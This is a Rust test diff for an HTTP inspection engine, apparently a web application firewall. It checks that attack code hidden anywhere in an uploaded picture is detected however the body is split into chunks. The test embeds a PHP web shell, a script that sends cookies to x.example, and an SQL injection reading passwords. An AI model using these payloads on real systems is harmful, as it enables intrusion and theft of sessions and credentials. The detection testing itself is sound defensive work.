@@ -160,12 +160,16 @@ fn picture(size: usize) -> Vec<u8> {
 }
 
 fn upload(body: &[u8]) -> Transaction {
+    upload_in_pieces(body, 60_000)
+}
+
+fn upload_in_pieces(body: &[u8], piece: usize) -> Transaction {
     let mut transaction = Engine::default().transaction();
     transaction.request_line(b"PUT", b"/pictures/7", Version::Http11);
     transaction.request_header(b"Host", b"a.example");
     transaction.request_header(b"Content-Type", b"application/octet-stream");
     transaction.request_head_end();
-    body.chunks(60_000).for_each(|piece| transaction.request_body(piece));
+    body.chunks(piece).for_each(|piece| transaction.request_body(piece));
     transaction.request_end();
     transaction
 }
@@ -185,6 +189,30 @@ fn code_deep_inside_a_picture_is_found_and_the_picture_is_no_attack() {
             "{:#?}",
             found.findings()
         );
+    }
+}
+
+#[test]
+fn code_anywhere_in_a_picture_is_found_in_any_pieces() {
+    let picture = picture(24_000);
+    let told = |t: &Transaction| -> Vec<String> { t.findings().iter().map(|f| format!("{f:?}")).collect() };
+    for at in [0, 1, 700, 4_000, 8_150, 8_180, 8_200, 15_340, 15_370, 16_380, 22_500, 23_999] {
+        for code in [
+            "<?php system($_GET['c']); ?>",
+            "<script>fetch('//x.example/'+document.cookie)</script>",
+            "' union select password from users-- ",
+        ] {
+            let body = [&picture[..at], b"\xff", code.as_bytes(), &[0], &picture[at..]].concat();
+            let whole = upload_in_pieces(&body, usize::MAX);
+            assert_eq!(whole.verdict(), Verdict::Attack, "{code} at {at}");
+            for piece in [1, 64, 1460, 8192] {
+                assert_eq!(
+                    told(&upload_in_pieces(&body, piece)),
+                    told(&whole),
+                    "{code} at {at} in pieces of {piece}"
+                );
+            }
+        }
     }
 }
 
